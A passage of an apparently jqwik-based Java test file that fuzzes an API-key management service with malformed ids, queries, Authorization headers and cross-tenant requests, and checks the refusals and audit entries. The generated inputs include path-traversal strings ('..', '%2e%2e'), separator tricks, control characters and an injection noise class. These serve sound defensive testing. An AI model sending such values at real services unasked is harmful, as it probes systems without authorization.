            (endpoint, caller, size, chunked) -> {
              String body = "{\"name\":\"" + "x".repeat(size) + "\"}";
              return world
                  .valid(endpoint, caller, 0)
                  .named(chunked ? "over 64 KiB, chunked" : "over 64 KiB")
                  .withBody(body.getBytes(StandardCharsets.UTF_8))
                  .chunked(chunked)
                  .refused(413, "PAYLOAD_TOO_LARGE");
            });
  }

  /**
   * An id in the path that names nothing: malformed (any caller), well-formed but unknown or of
   * another API (the operator), not decodable, or longer than a request line may be.
   */
  private Arbitrary<Attempt> badPathIds() {
    List<Map.Entry<ManagementEndpoint, String>> targets = new ArrayList<>();
    for (ManagementEndpoint endpoint : endpoints) {
      for (String parameter : endpoint.route().pathParameters()) {
        targets.add(Map.entry(endpoint, parameter));
      }
    }
    return Arbitraries.of(targets)
        .flatMap(
            target -> {
              ManagementEndpoint endpoint = target.getKey();
              String parameter = target.getValue();
              String real = world.pathId(parameter);
              Arbitrary<String> malformedIds =
                  OWNER_PATH_PARAMETERS.contains(parameter)
                      ? malformedOwnerIds()
                      : malformedIds(real);
              Arbitrary<Attempt> malformed =
                  Combinators.combine(anyCaller(), malformedIds)
                      .as(
                          (caller, id) ->
                              world
                                  .valid(endpoint, caller, 0)
                                  .named("malformed id")
                                  .withPathId(
                                      parameter, URLEncoder.encode(id, StandardCharsets.UTF_8))
                                  .carrying(id)
                                  .refused(404, NOT_FOUND));
              Arbitrary<String> unknownIds =
                  OWNER_PATH_PARAMETERS.contains(parameter)
                      ? Arbitraries.oneOf(
                          Arbitraries.strings()
                              .withChars("abcdefghijklmnopqrstuvwxyz0123456789_")
                              .ofMinLength(1)
                              .ofMaxLength(64)
                              .map(code -> "zz" + code)
                              .map(code -> code.substring(0, Math.min(64, code.length()))),
                          Arbitraries.of(world.otherIds(parameter)))
                      : Arbitraries.oneOf(
                          Arbitraries.strings()
                              .withChars("0123456789abcdef")
                              .ofLength(32)
                              .map(hex -> real.substring(0, real.length() - 32) + hex),
                          Arbitraries.of(world.otherIds(parameter)));
              Arbitrary<Attempt> unknown =
                  unknownIds.map(
                      id ->
                          world
                              .valid(endpoint, world.root, 0)
                              .named("unknown id")
                              .withPathId(parameter, id)
                              .refused(404, NOT_FOUND));
              Arbitrary<Attempt> undecodable =
                  Combinators.combine(
                          anyCaller(),
                          Arbitraries.of(
                              "%zz",
                              "%",
                              "%e",
                              "%FF",
                              "%C3%28",
                              "%ED%A0%80",
                              "a%00b",
                              "é",
                              "a b",
                              "a\\b",
                              "{" + parameter + "}"))
                      .as(
                          (caller, id) ->
                              world
                                  .valid(endpoint, caller, 0)
                                  .named("undecodable id")
                                  .withPathId(parameter, id)
                                  .refused(400, BAD_REQUEST));
              Arbitrary<Attempt> overlong =
                  anyCaller()
                      .map(
                          caller ->
                              world
                                  .valid(endpoint, caller, 0)
                                  .named("overlong id")
                                  .withPathId(parameter, "y".repeat(OVER_JETTY_LIMIT))
                                  .refused(414, "URI_TOO_LONG"));
              return Arbitraries.frequencyOf(
                  List.of(
                      Tuple.of(6, malformed),
                      Tuple.of(3, unknown),
                      Tuple.of(2, undecodable),
                      Tuple.of(1, overlong)));
            });
  }

  /** Path parameters that name an organization or a user by its code or id. */
  private static final Set<String> OWNER_PATH_PARAMETERS = Set.of("org_code", "user_id");

  /** Organization codes and user ids: 1 to 64 of {@code [A-Za-z0-9_.:-]}. */
  private static final Pattern OWNER_ID = Pattern.compile("[A-Za-z0-9_.:-]{1,64}");

  /** Owner codes that are not shaped like one: too long, or of characters codes never hold. */
  private static Arbitrary<String> malformedOwnerIds() {
    return Arbitraries.oneOf(
            Arbitraries.strings().alpha().numeric().ofMinLength(65).ofMaxLength(2_000),
            noise(Noise.UNICODE),
            noise(Noise.INJECTION),
            noise(Noise.SPACED),
            Arbitraries.of("a;b", "a/b", "a\\b", "?", "#", "%", "a b", "org@a", "kp_u!"))
        .filter(id -> !id.isEmpty() && !OWNER_ID.matcher(id).matches());
  }

  /** Ids that are not shaped like any id: mutations of a real one, noise, and path tricks. */
  private static Arbitrary<String> malformedIds(String real) {
    int hexStart = real.length() - 32;
    return Arbitraries.oneOf(
            Arbitraries.just(real.toUpperCase(Locale.ROOT)),
            Arbitraries.integers().between(1, real.length() - 1).map(n -> real.substring(0, n)),
            Arbitraries.strings()
                .withChars("0123456789abcdef")
                .ofMinLength(1)
                .ofMaxLength(5)
                .map(extra -> real + extra),
            Arbitraries.integers()
                .between(hexStart, real.length() - 1)
                .map(at -> real.substring(0, at) + "g" + real.substring(at + 1)),
            Arbitraries.of("api_key_", "api_", "api_scope_", "key_", "")
                .map(prefix -> prefix + real.substring(hexStart)),
            Arbitraries.strings().alpha().numeric().ofMinLength(1).ofMaxLength(2_000),
            noise(Noise.UNICODE),
            noise(Noise.INJECTION),
            noise(Noise.SPACED),
            Arbitraries.of(".", "..", "...", "%2e%2e", ";", "a;b", "a/b", "a\\b", "?", "#", "%"))
        .filter(id -> !id.isEmpty() && !id.equals(real) && !wellFormed(id));
  }

  private static boolean wellFormed(String id) {
    return ApiKeyId.isWellFormed(id)
        || ApiId.isWellFormed(id)
        || dev.keygate.domain.api.ScopeId.isWellFormed(id);
  }

  /**
   * An organization admin or a user reaching for a key of organization A: answered exactly as an
   * unknown id, and the attempt is on record as one refused event.
   */
  private Arbitrary<Attempt> otherOwnersKeys() {
    List<ManagementEndpoint> keyEndpoints =
        endpoints.stream()
            .filter(endpoint -> endpoint.route().pathParameters().contains("key_id"))
            .toList();
    return Combinators.combine(
            Arbitraries.of(keyEndpoints), Arbitraries.of(world.orgBAdmin, world.userUAdmin))
        .as(
            (endpoint, caller) -> {
              AuditAction action =
                  endpoint.template().endsWith("/usage")
                      ? AuditAction.USAGE_READ
                      : KEY_ACTIONS.get(endpoint.method());
              if (action == null) {
                throw new AssertionError("no audit action written down for " + endpoint);
              }
              String keyId = world.pathId("key_id");
              // On the trail of who was refused, not in organization A's.
              String callersOwn = caller == world.orgBAdmin ? "org_b" : "kp_u";
              return world
                  .valid(endpoint, caller, 0)
                  .named("another owner's key")
                  .refused(404, NOT_FOUND)
                  .audited(caller.actor() + " " + action + " " + keyId + " REFUSED " + callersOwn);
            });
  }

  /** The audit action of each webhook endpoint, recorded when a caller reaches too far. */
  private static final Map<String, AuditAction> WEBHOOK_ACTIONS =
      Map.of(
          "GET /api/v1/webhooks", AuditAction.WEBHOOK_READ,
          "POST /api/v1/webhooks", AuditAction.WEBHOOK_CREATE,
          "GET /api/v1/webhooks/{webhook_id}", AuditAction.WEBHOOK_READ,
          "PATCH /api/v1/webhooks/{webhook_id}", AuditAction.WEBHOOK_UPDATE,
          "DELETE /api/v1/webhooks/{webhook_id}", AuditAction.WEBHOOK_DELETE,
          "POST /api/v1/webhooks/{webhook_id}/rotate_secret", AuditAction.WEBHOOK_ROTATE_SECRET,
          "GET /api/v1/webhooks/{webhook_id}/deliveries", AuditAction.WEBHOOK_READ,
          "POST /api/v1/webhooks/{webhook_id}/deliveries/{delivery_id}/redeliver",
              AuditAction.WEBHOOK_REDELIVER);

  /**
   * A user's key on any webhook route (403: webhooks belong to organizations), and organization B's
   * admin reaching for A's webhook (404, as for an unknown one) or making one for A (403): each on
   * record as one refused event on the trail of who was refused.
   */
  private Arbitrary<Attempt> otherOwnersWebhooks() {
    List<ManagementEndpoint> webhookEndpoints =
        endpoints.stream()
            .filter(endpoint -> endpoint.template().startsWith(WebhookRoutes.WEBHOOKS))
            .toList();
    return Arbitraries.of(webhookEndpoints)
        .flatMap(
            endpoint ->
                Arbitraries.of(
                        endpoint.name().equals("GET /api/v1/webhooks")
                            ? List.of(world.userUAdmin)
                            : List.of(world.userUAdmin, world.orgBAdmin))
                    .map(caller -> otherOwnersWebhook(endpoint, caller)));
  }

  private Attempt otherOwnersWebhook(ManagementEndpoint endpoint, Caller caller) {
    AuditAction action = WEBHOOK_ACTIONS.get(endpoint.name());
    if (action == null) {
      throw new AssertionError("no audit action written down for " + endpoint);
    }
    boolean byWebhook = endpoint.template().contains("{webhook_id}");
    Attempt attempt = world.valid(endpoint, caller, 0).named("another owner's webhook");
    if (caller == world.userUAdmin) {
      String target =
          endpoint.template().endsWith("/redeliver")
              ? world.pathId("delivery_id")
              : byWebhook ? world.pathId("webhook_id") : "webhooks";
      return attempt
          .refused(403, "FORBIDDEN")
          .audited(caller.actor() + " " + action + " " + target + " REFUSED kp_u");
    }
    if (byWebhook) {
      return attempt
          .refused(404, NOT_FOUND)
          .audited(
              caller.actor() + " " + action + " " + world.pathId("webhook_id") + " REFUSED org_b");
    }
    // Making one for organization A, as its body says.
    return attempt
        .refused(403, "FORBIDDEN")
        .audited(caller.actor() + " " + action + " org_a REFUSED org_b");
  }

  /** Query values the endpoint refuses, amid a cursor of any text. */
  private Arbitrary<Attempt> badQueries() {
    List<Map.Entry<ManagementEndpoint, Route.QueryParameter>> targets = new ArrayList<>();
    for (ManagementEndpoint endpoint : endpoints) {
      for (Route.QueryParameter parameter : endpoint.route().query()) {
        Query kind = QUERY_PARAMETERS.get(parameter.name());
        if (kind == null) {
          throw new AssertionError("no kind written down for ?" + parameter.name());
        }
        if (kind != Query.CURSOR) {
          targets.add(Map.entry(endpoint, parameter));
        }
      }
    }
    Arbitrary<Attempt> refused =
        Arbitraries.of(targets)
            .flatMap(
                target -> {
                  String name = target.getValue().name();
                  Arbitrary<String> cursor =
                      Arbitraries.oneOf(
                              Arbitraries.just(""),
                              Arbitraries.strings().ofMaxLength(40),
                              noise(Noise.INJECTION))
                          .map(text -> text.isEmpty() ? "" : "&starting_after=" + encode(text));
                  return Combinators.combine(
                          anyCaller(), badQueryValues(QUERY_PARAMETERS.get(name)), cursor)
                      .as(
                          (caller, value, after) ->
                              world
                                  .valid(target.getKey(), caller, 0)
                                  .named("bad ?" + name)
                                  .withQuery(name + "=" + encode(value) + after)
                                  .carrying(value)
                                  .refused(400, INVALID_REQUEST));
                });
    Arbitrary<Attempt> undecodable =
        Combinators.combine(
                Arbitraries.of(targets),
                anyCaller(),
                Arbitraries.of("%zz", "%", "%e", "5%", "%G1", "%%", "a%2"))
            .as(
                (target, caller, raw) ->
                    world
                        .valid(target.getKey(), caller, 0)
                        .named("undecodable ?" + target.getValue().name())
                        .withQuery(target.getValue().name() + "=" + raw)
                        .refused(400, INVALID_REQUEST));
    Arbitrary<Attempt> overlong =
        Combinators.combine(Arbitraries.of(targets), anyCaller())
            .as(
                (target, caller) ->
                    world
                        .valid(target.getKey(), caller, 0)
                        .named("overlong query")
                        .withQuery(target.getValue().name() + "=" + "z".repeat(OVER_JETTY_LIMIT))
                        .refused(414, "URI_TOO_LONG"));
    List<ManagementEndpoint> ownerFiltered =
        endpoints.stream()
            .filter(
                endpoint ->
                    endpoint.route().query().stream()
                        .map(Route.QueryParameter::name)
                        .collect(Collectors.toSet())
                        .containsAll(Set.of("org_code", "user_id")))
            .toList();
    Arbitrary<Attempt> bothOwners =
        Combinators.combine(Arbitraries.of(ownerFiltered), anyCaller())
            .as(
                (endpoint, caller) ->
                    world
                        .valid(endpoint, caller, 0)
                        .named("bad ?org_code&user_id")
                        .withQuery("org_code=org_a&user_id=kp_u")
                        .refused(400, INVALID_REQUEST));
    return Arbitraries.frequencyOf(
        List.of(
            Tuple.of(12, refused),
            Tuple.of(3, undecodable),
            Tuple.of(1, overlong),
            Tuple.of(1, bothOwners)));
  }

  private static Arbitrary<String> badQueryValues(Query kind) {
    Arbitrary<String> noise =
        Arbitraries.oneOf(
            noise(Noise.UNICODE),
            noise(Noise.INJECTION),
            noise(Noise.CONTROL),
            noise(Noise.SPACED),
            noise(Noise.HUGE).map(text -> text.substring(0, Math.min(text.length(), 1_000))));
    switch (kind) {
      case PAGE_SIZE:
        return Arbitraries.oneOf(
            Arbitraries.integers().lessOrEqual(0).map(String::valueOf),
            Arbitraries.longs().greaterOrEqual(PageRequest.MAX_SIZE + 1).map(String::valueOf),
            Arbitraries.of("1.5", "1e3", "0x10", "ten", "5 ", " 5", "5,0", "１"),
            Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(20),
            noise);
      case ENUMERATION:
        return Arbitraries.oneOf(
            Arbitraries.of("ACTIVE", "Active", "activ", "organizations", "SCOPES", "scopes,x", "*"),
            noise);
      case IDENTIFIER:
        return Arbitraries.oneOf(
            Arbitraries.of(
                "api_key_0123456789ABCDEF0123456789ABCDEF", "api_0123", "org_a", "kp_u", "*"),
            noise);
      case OWNER:
        return Arbitraries.oneOf(Arbitraries.of("org a", "*", "o/a", "x".repeat(65)), noise);
      case EMAIL:
        return Arbitraries.oneOf(
            Arbitraries.of("alice", "a b@example.com", "@", "a@", "a@example.com,bob", "*"), noise);
      case BOOLEAN:
        return Arbitraries.oneOf(Arbitraries.of("yes", "1", "TRUE", "False", "*"), noise);
      case SEARCH:
        return Arbitraries.strings()
            .alpha()
            .numeric()
            .withChars(' ', '%', '_', '\'', '"', '<')
            .ofMinLength(129)
            .ofMaxLength(1_000)
            .filter(text -> text.strip().length() > 128);
      case ACTOR:
        return Arbitraries.oneOf(
            Arbitraries.of("cli:a\u0000", "a\nb", "x".repeat(129)),
            Arbitraries.strings().alpha().ofMinLength(129).ofMaxLength(1_000));
      case INSTANT:
        return Arbitraries.oneOf(
            Arbitraries.of(
                "yesterday", "2026-13-01T00:00:00Z", "2026-01-01", "1700000000", "now", "*"),
            noise);
      case UNSUPPORTED:
        return Arbitraries.oneOf(
            Arbitraries.of("name_asc", "a@example.com", "true", "2026-01-01T00:00:00Z"), noise);
      case TOKEN:
        // "YWZ0ZXI6" is "after:" with no id after it.
        return Arbitraries.oneOf(
            Arbitraries.of("after:org_a", "*", "YWZ0ZXI6", "not a token", "%%%"), noise);
      default:
        throw new AssertionError(kind + " has no bad values");
    }
  }

  /** A method no endpoint takes on the path, or a path below an endpoint that none serves. */
  private Arbitrary<Attempt> wrongMethods() {
    List<Attempt> attempts = new ArrayList<>();
    for (ManagementEndpoint endpoint : endpoints) {
      Attempt valid = world.valid(endpoint, world.root, 0);
      String path = valid.path();
      for (String method : List.of("GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS")) {
        if (endpoints.stream().noneMatch(each -> each.routes(method, path))) {
          attempts.add(
              valid.named("method not served").withMethod(method).refused(404, ROUTE_NOT_FOUND));
        }
      }
      for (String below : List.of("/extra", "/scopes/more/and_more", "/0/0")) {
        String deeper = path + below;
        if (endpoints.stream().noneMatch(each -> each.routes(endpoint.method(), deeper))) {
          attempts.add(
              valid.named("path not served").withPath(deeper).refused(404, ROUTE_NOT_FOUND));
        }
      }
    }
    return Arbitraries.of(attempts);
  }

  /**
   * An otherwise good request with no, two, or a garbled {@code Authorization}: 401, or 400 when
   * the header holds a control character HTTP forbids, 431 when it is too long, and 429 when its
   * lookup has failed as often as verification allows (so too a key presented to verify).
   */
  private Arbitrary<Attempt> badAuthorization() {
    String root = world.root.token();
    Arbitrary<List<String>> unauthorized =
        Arbitraries.oneOf(
            Arbitraries.just(List.<String>of()),
            Arbitraries.of(
                    List.of(root, root),
                    List.of(root, "garbage"),
                    List.of("garbage", root),
                    List.of(world.orgBAdmin.token(), root),
                    List.of(root, ""))
                .map(tokens -> tokens.stream().map(token -> "Bearer " + token).toList()),
            Arbitraries.of(
                    "Basic "
                        + Base64.getEncoder()
                            .encodeToString(("root:" + root).getBytes(StandardCharsets.UTF_8)),
                    "Token " + root,
                    root,
                    "Bearer",
                    "Bearer ",
                    "Bearer:" + root,
                    "Bearer=" + root,
                    "Bearer\t" + root,
                    "Bearer-" + root,
                    "Bearerr " + root,
                    "Bearer " + root + " " + root,
                    "Bearer " + root + ",Bearer " + root)
                .map(List::of),
            garbledTokens(root).map(token -> List.of("Bearer " + token)));
    Arbitrary<Attempt> refused =
        Combinators.combine(Arbitraries.of(endpoints), unauthorized)
            .as(
                (endpoint, values) ->
                    world
                        .valid(endpoint, world.root, 0)
                        .named(
                            values.isEmpty()
                                ? "no Authorization"
                                : values.size() > 1
                                    ? "two Authorization headers"
                                    : "garbled Authorization")
                        .withAuthorization(values)
                        .carrying(values)
                        .refused(401, UNAUTHORIZED));
    Arbitrary<String> controls =
        Arbitraries.oneOf(
            Arbitraries.chars()
                .range('\u0000', '\u001f')
                .filter(c -> c != '\t' && c != '\r' && c != '\n')
                .map(String::valueOf),
            Arbitraries.just("\u007f"));
    Arbitrary<Attempt> control =
        Combinators.combine(
                Arbitraries.of(endpoints),
                controls,
                Arbitraries.integers().between(7, root.length() + 7))
            .as(
                (endpoint, character, at) -> {
                  String value = "Bearer " + root;
                  return world
                      .valid(endpoint, world.root, 0)
                      .named("control character in Authorization")
                      .withAuthorization(
                          List.of(value.substring(0, at) + character + value.substring(at)))
                      .refused(400, BAD_REQUEST);
                });
    Arbitrary<Attempt> huge =
        Arbitraries.of(endpoints)
            .map(
                endpoint ->
                    world
                        .valid(endpoint, world.root, 0)
                        .named("huge Authorization")
                        .withAuthorization(List.of("Bearer " + "k".repeat(OVER_JETTY_LIMIT)))
                        .refused(431, "HEADERS_TOO_LARGE"));
    List<String> lockable = List.of(TestKeygate.withWrongSecret(root), TestKeygate.unknownToken());
    Arbitrary<Attempt> lockedOut =
        Combinators.combine(Arbitraries.of(endpoints), Arbitraries.of(lockable))
            .as(
                (endpoint, token) ->
                    world
                        .valid(endpoint, world.root, 0)
                        .named("locked-out lookup")
                        .withAuthorization(List.of("Bearer " + token))
                        .lockingOut(token)
                        .refused(429, "TOO_MANY_REQUESTS"));
    List<ManagementEndpoint> verifying =
        withBody().stream()
            .filter(endpoint -> endpoint.route().request().get() == VerifyApiKeyRequest.class)
            .toList();
    Arbitrary<Attempt> lockedOutVerified =
        Combinators.combine(Arbitraries.of(verifying), anyCaller(), Arbitraries.of(lockable))
            .as(
                (endpoint, caller, token) ->
                    world
                        .valid(endpoint, caller, 0)
                        .named("locked-out lookup")
                        .withBody(
                            WireJson.write(Map.of("api_key", token))
                                .getBytes(StandardCharsets.UTF_8))
                        .lockingOut(token)
                        .refused(429, "TOO_MANY_REQUESTS"));
    return Arbitraries.frequencyOf(
        List.of(
            Tuple.of(12, refused),
            Tuple.of(2, control),
            Tuple.of(1, huge),
            Tuple.of(1, lockedOut),
            Tuple.of(1, lockedOutVerified)));
  }

  /** Tokens that are not a live management key, the root key's neighbours among them. */
  private Arbitrary<String> garbledTokens(String root) {
    return Arbitraries.oneOf(
        Arbitraries.integers().between(1, root.length() - 1).map(n -> root.substring(0, n)),
        Arbitraries.strings().alpha().numeric().ofMinLength(1).ofMaxLength(10).map(x -> root + x),
        Arbitraries.of(
            TestKeygate.withTypo(root),
            TestKeygate.withWrongSecret(root),
            TestKeygate.unknownToken(),
            world.keyA.key(),
            world.revoked.key(),
            world.inactive.key(),
            world.expired.key()),
        Arbitraries.strings()
            .ascii()
            .ofMinLength(1)
            .ofMaxLength(200)
            .filter(BadInputPropertiesTest::printable),
        Arbitraries.strings().withCharRange('!', '~').ofMinLength(1_000).ofMaxLength(6_000),
        noise(Noise.UNICODE),
        noise(Noise.INJECTION));
  }

  private static boolean printable(String text) {
    return !text.isBlank() && text.chars().allMatch(c -> c >= ' ' && c < 0x7f);
  }

  // Bad text

  private static Arbitrary<String> noise(Noise noise) {
    Arbitrary<String> word = Arbitraries.strings().alpha().numeric().ofMinLength(1).ofMaxLength(10);
    switch (noise) {
      case HUGE:
        return Combinators.combine(word, Arbitraries.integers().between(HUGE_MIN, HUGE_MAX))
            .as((unit, length) -> unit.repeat(length / unit.length() + 1).substring(0, length));
      case EMPTY:
        return Arbitraries.just("");
      case BLANK:
        return Arbitraries.strings()
            .withChars(' ', '\u2003', '\u3000')
            .ofMinLength(1)
            .ofMaxLength(5);
      case CONTROL:
        return Combinators.combine(
                word,
                Arbitraries.oneOf(
                    Arbitraries.chars().range('\u0000', '\u001f'),
                    Arbitraries.chars().range('\u007f', '\u009f')),
                word)
            .as((before, control, after) -> before + control + after);
      case SPACED:
        return Combinators.combine(word, Arbitraries.of(" ", "  ", "\u2003", "\u3000"), word)
            .as((before, space, after) -> before + space + after);
      case UNICODE:
        return Combinators.combine(
                Arbitraries.strings().alpha().ofMaxLength(5),
                Arbitraries.oneOf(
                    Arbitraries.strings()
                        .withCharRange('\u00c0', '\u024f')
                        .withCharRange('\u0391', '\u03c9')
                        .withCharRange('\u0410', '\u044f')
                        .withCharRange('\u4e00', '\u4fff')
                        .ofMinLength(1)
                        .ofMaxLength(10),
                    Arbitraries.of("\ud83d\udd11", "\ud83d\ude00", "\u202eevil", "\u200b", "ＡＢ")),
                Arbitraries.strings().alpha().ofMaxLength(5))
            .as((before, unicode, after) -> before + unicode + after);
      case INJECTION:
        return Arbitraries.oneOf(
            Arbitraries.of(INJECTIONS),
            Combinators.combine(word, Arbitraries.of(INJECTIONS))
                .as((before, injection) -> before + injection));
      default:
        throw new AssertionError(noise);
    }
  }

  // Helpers

  private static boolean isListOfText(Type type) {
    return type instanceof ParameterizedType list
        && list.getRawType() == List.class
        && list.getActualTypeArguments()[0] == String.class;
  }

  private static String encode(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }

  private static JsonNode tree(String json) {
    try {
      return WireJson.mapper().readTree(json);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** The object with one more member written first, as text: JSON trees cannot hold duplicates. */
  private static byte[] withRawMember(String object, String quotedName, String value) {
    String members = object.substring(1);
    String separator = members.equals("}") ? "" : ",";
    return ("{" + quotedName + ":" + value + separator + members).getBytes(StandardCharsets.UTF_8);
  }

  static String abbreviate(String text, int length) {
    String printable =
        text.chars()
            .mapToObj(c -> c < ' ' || c == 0x7f ? "\\u%04x".formatted(c) : String.valueOf((char) c))
            .collect(Collectors.joining());
    return printable.length() <= length
        ? printable
        : printable.substring(0, length) + "...(" + text.length() + " characters)";
  }

  // The world the requests are made in

  /** Who presents a management key, and how the audit trail names them. */
  record Caller(String name, String token, String actor) {
    @Override
    public String toString() {
      return name;
    }
  }

  /** A body field of an endpoint's request record. */
  record Field(ManagementEndpoint endpoint, RecordComponent component) {

    String name() {
      return WireJson.propertyName(component);
    }

    String qualifiedName() {
      return component.getDeclaringRecord().getSimpleName() + "." + name();
    }

    boolean required() {
      return component.isAnnotationPresent(Required.class);
    }

    @Override
    public String toString() {
      return endpoint + " ." + name();
    }
  }

  /** A value of the right type that the rules refuse, with the answer it gets. */
  record WrongValue(String field, String json, int status, String code) {}

  /**
   * Two APIs, one with a key of organization A and one spare, each with a scope; organizations A
   * and B and user U; management keys for the operator, B and U, and a revoked, a disabled and an
   * expired one. Paths name A's key, the spare API and its scope.
   */
  static final class World {

    final RestFixture rest;
    final Caller root;
    final Caller orgBAdmin;
    final Caller userUAdmin;
    final RestFixture.Issued keyA;
    final RestFixture.Issued revoked;
    final RestFixture.Issued inactive;
    final RestFixture.Issued expired;
    private final Api usersApi;
    private final Api spareApi;
    private final Scope spareScope;
    private final Scope usersScope;
    private final Map<Class<?>, List<String>> bases;
    private final String webhookA;
    private final String deliveryA;

    /** A usage policy with every part, as the fields of a body. */
    private static final String POLICY =
        "\"rate_limits\":[{\"name\":\"burst\",\"limit\":100,\"duration_seconds\":1}],"
            + "\"credits\":{\"remaining\":100,\"refill\":{\"amount\":100,\"interval\":\"P7D\","
            + "\"mode\":\"add\"}},\"ip_allowlist\":[\"203.0.113.0/24\",\"2001:db8::/32\"]";

    World(RestFixture rest) {
      this.rest = rest;
      TestKeygate keygate = rest.keygate;
      usersApi = keygate.registerApi("https://users.example.com");
      usersScope = keygate.addScope(usersApi, "read:users");
      spareApi = keygate.registerApi("https://spare.example.com");
      spareScope = keygate.addScope(spareApi, "read:spare");
      keygate.createOrganization("org_a");
      keygate.createOrganization("org_b");
      keygate.createUser("kp_u");
      keygate.createOrganization(EMPTY_ORG);
      keygate.createUser(EMPTY_USER);
      keygate.grant(new Owner.Org(new OrgCode("org_a")), spareApi, "read:spare");
      keygate.grant(new Owner.User(new UserId("kp_u")), spareApi, "read:spare");
      // A's webhook, told of A's keys: key A's creation is the delivery in its log.
      webhookA =
          rest.post(
                  "/api/v1/webhooks",
                  "{\"endpoint\":\"https://hooks.example.com/a\",\"event_types\":[\"api_key.created\"],\"org_code\":\"org_a\"}")
              .text("/webhook/id");
      keyA =
          rest.createKey(
              "{\"name\":\"key of A\",\"api_id\":\"%s\",\"scope_ids\":[\"read:users\"],\"org_code\":\"org_a\"}"
                  .formatted(usersApi.id()));
      deliveryA = rest.get("/api/v1/webhooks/" + webhookA + "/deliveries").text("/deliveries/0/id");
      root = caller("operator", rest.rootKey, rootId(rest));
      orgBAdmin = caller("org B admin", rest.managementKey("org_code", "org_b"));
      userUAdmin = caller("user U", rest.managementKey("user_id", "kp_u"));
      revoked = rest.managementKey("org_code", Organization.OPERATOR_CODE.value());
      inactive = rest.managementKey("org_code", Organization.OPERATOR_CODE.value());
      expired =
          rest.createKey(
              WireJson.write(
                  Map.of(
                      "name", "expiring",
                      "api_id", rest.managementApiId(),
                      "scope_ids", List.of("read:api_keys"),
                      "org_code", Organization.OPERATOR_CODE.value(),
                      "expires_on", keygate.clock.instant().plus(Duration.ofHours(1)).toString())));
      rest.call("DELETE", "/api/v1/api_keys/" + revoked.id(), null);
      rest.call("PATCH", "/api/v1/api_keys/" + inactive.id(), "{\"status\":\"inactive\"}");
      keygate.clock.advance(Duration.ofHours(2));
      String users = usersApi.id().value();
      bases =
          Map.ofEntries(
              Map.entry(
                  CreateApiKeyRequest.class,
                  List.of(
                      "{\"name\":\"k\",\"api_id\":\"%s\",\"scope_ids\":[\"read:users\"],\"org_code\":\"org_a\",\"type\":\"organization\",\"expires_on\":\"2100-01-01T00:00:00Z\"}"
                          .formatted(users),
                      "{\"name\":\"k\",\"api_id\":\"%s\",\"scope_ids\":[\"read:users\"],\"user_id\":\"kp_u\",\"type\":\"user\"}"
                          .formatted(users),
                      ("{\"name\":\"k\",\"api_id\":\"%s\",\"org_code\":\"org_a\"," + POLICY + "}")
                          .formatted(users))),
              Map.entry(
                  VerifyApiKeyRequest.class,
                  List.of(
                      "{\"api_key\":\"k_live_not_a_key\",\"required_scopes\":[\"read:users\"],\"api_id\":\"%s\",\"client_ip\":\"203.0.113.7\",\"cost\":1}"
                          .formatted(users))),
              Map.entry(
                  RotateApiKeyRequest.class, List.of("{\"previous_key_expires_in_seconds\":60}")),
              Map.entry(
                  UpdateApiKeyRequest.class,
                  List.of(
                      "{\"name\":\"renamed\",\"status\":\"inactive\",\"expires_on\":\"2100-01-01T00:00:00Z\"}",
                      "{" + POLICY + "}")),
              Map.entry(
                  SetRateLimitsRequest.class,
                  List.of(
                      "{\"rate_limits\":[{\"name\":\"daily\",\"limit\":1000,\"duration_seconds\":86400}]}")),
              Map.entry(
                  RegisterApiRequest.class,
                  List.of("{\"name\":\"Billing\",\"audience\":\"https://billing.example.com\"}")),
              Map.entry(
                  AddScopeRequest.class,
                  List.of("{\"key\":\"write:spare\",\"description\":\"may write\"}")),
              Map.entry(
                  UpdateScopeRequest.class,
                  List.of("{\"description\":\"may read the spare api\"}")),
              Map.entry(
                  CreateOrganizationRequest.class,
                  List.of("{\"name\":\"Org C\",\"code\":\"org_c\"}")),
              Map.entry(
                  CreateUserRequest.class,
                  List.of(
                      "{\"id\":\"kp_v\",\"name\":\"User V\",\"email\":\"v@example.com\"}",
                      """
                      {"id":"kp_w","profile":{"given_name":"User","family_name":"W"},
                       "organization_code":"org_a",
                       "identities":[{"type":"email","details":{"email":"w@example.com"}}]}
                      """)),
              Map.entry(
                  CreatePortalLinkRequest.class,
                  List.of(
                      "{\"org_code\":\"org_a\"}",
                      "{\"user_id\":\"kp_u\",\"expires_in_seconds\":600}")),
              Map.entry(SetGrantRequest.class, List.of("{\"scope_ids\":[\"read:spare\"]}")),
              Map.entry(
                  UpdateOrganizationRequest.class,
                  List.of("{\"name\":\"Org A renamed\",\"is_suspended\":false}")),
              Map.entry(
                  CreateWebhookRequest.class,
                  List.of(
                      "{\"endpoint\":\"https://hooks.example.com/b\",\"event_types\":[\"api_key.revoked\",\"api_key.leaked\"],\"name\":\"Revocations\",\"description\":\"tells the SOC\",\"org_code\":\"org_a\"}")),
              Map.entry(
                  UpdateWebhookRequest.class,
                  List.of(
                      "{\"event_types\":[\"api_key.revoked\"],\"name\":\"Renamed\",\"description\":\"changed\"}")),
              Map.entry(
                  UpdateUserRequest.class,
                  List.of(
                      "{\"name\":\"Ursula\",\"is_suspended\":false}",
                      "{\"given_name\":\"Ursula\",\"family_name\":\"U\"}")));
    }

    private static String rootId(RestFixture rest) {
      return rest.keygate.apiKeys.all().stream()
          .filter(key -> key.name().equals("Root management key"))
          .map(key -> key.id().value())
          .findFirst()
          .orElseThrow(() -> new AssertionError("no root management key"));
    }

    private static Caller caller(String name, RestFixture.Issued key) {
      return caller(name, key.key(), key.id());
    }

    private static Caller caller(String name, String token, String keyId) {
      return new Caller(name, token, "api_key:" + keyId);
    }

    /** Every token issued: none may ever appear in an answer. */
    List<String> tokens() {
      return List.of(
          root.token(),
          orgBAdmin.token(),
          userUAdmin.token(),
          keyA.key(),
          revoked.key(),
          inactive.key(),
          expired.key());
    }

    /** The id a path parameter names. */
    String pathId(String parameter) {
      switch (parameter) {
        case "key_id":
          return keyA.id();
        case "api_id":
          return spareApi.id().value();
        case "scope_id":
          return spareScope.id().value();
        case "org_code":
          return "org_a";
        case "user_id":
          return "kp_u";
        case "webhook_id":
          return webhookA;
        case "delivery_id":
          return deliveryA;
        default:
          throw new AssertionError("no id written down for {" + parameter + "}");
      }
    }

    /** Well-formed ids in place of {@code parameter} that name nothing there. */
    List<String> otherIds(String parameter) {
      switch (parameter) {
        case "key_id":
          return List.of("api_key_" + "0".repeat(32), "api_key_" + "f".repeat(32));
        case "api_id":
